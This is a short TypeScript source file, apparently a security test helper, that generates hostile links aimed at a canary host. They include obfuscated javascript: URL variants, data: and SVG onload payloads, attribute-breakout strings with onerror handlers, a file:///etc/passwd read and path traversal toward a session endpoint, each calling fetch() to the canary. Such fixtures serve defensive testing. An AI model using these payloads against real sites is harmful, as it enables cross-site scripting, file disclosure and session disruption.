/** Addresses that run, or call `canary` by themselves, where a page follows or loads what it is told. */
export function makeHostileLinks(canary: string): string[] {
  const run = `window.__pwn=1;fetch('${canary}/run')`
  const html = `<script>${run}</script>`
  const base64 = Buffer.from(html).toString('base64')
  const { host } = new URL(canary)
  return [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    ` javascript:${run}`,
    `\u0001javascript:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `javascript\r\n:${run}`,
    `javascript://%0a${encodeURIComponent(run)}`,
    `javascript:"/*'/*\`/*-->${html}`,
    `&#106;avascript:${run}`,
    `%6aavascript:${run}`,
    `view-source:javascript:${run}`,
    `data:text/html,${html}`,
    `data:text/html;base64,${base64}`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
    `vbscript:${run}`,
    `blob:${canary}/1`,
    `file:///etc/passwd`,
    `filesystem:${canary}/temporary/x`,
    `//${host}/picture.png`,
    `\\\\${host}\\picture.png`,
    `/\\${host}/picture.png`,
    `${canary}/uploads/picture.png`,
    `/uploads/../../${host}/picture.png`,
    `/uploads/x.png" onerror="${run}`,
    `/uploads/x.png' onload='${run}`,
    `/uploads/x.png?"><img src=x onerror="${run}">`,
    `/uploads/x.svg`,
    `/uploads/${'%2e%2e%2f'.repeat(3)}api/session/end.png`,
    `"><script>${run}</script>`,
    `mailto:x@example.example?"onmouseover="${run}`,
    `tel:"><script>${run}</script>`,
    `x:${run}`,
  ]
}
